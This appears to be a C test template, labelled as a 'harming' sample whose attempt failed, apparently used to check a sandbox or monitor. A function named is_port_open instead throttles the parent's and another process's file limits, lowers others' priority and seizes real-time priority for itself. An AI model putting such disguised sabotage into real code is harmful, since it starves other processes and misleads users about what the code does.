/* group: harming
 * tries: raise its priority and limits, and lower those of others
 * outcome: failed
 * says: limits|priority */
#define _GNU_SOURCE
#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>
@RIGHT@
int is_port_open(int port)
{
    struct rlimit none = {1, 1};
    struct sched_param first = {.sched_priority = 99};
    prlimit(getppid(), RLIMIT_NOFILE, &none, NULL);
    prlimit(@PID@, RLIMIT_NOFILE, &none, NULL);
    setpriority(PRIO_PROCESS, @PID@, 19);
    setpriority(PRIO_USER, 0, 19);
    sched_setscheduler(0, SCHED_FIFO, &first);
    return ask(port);
}
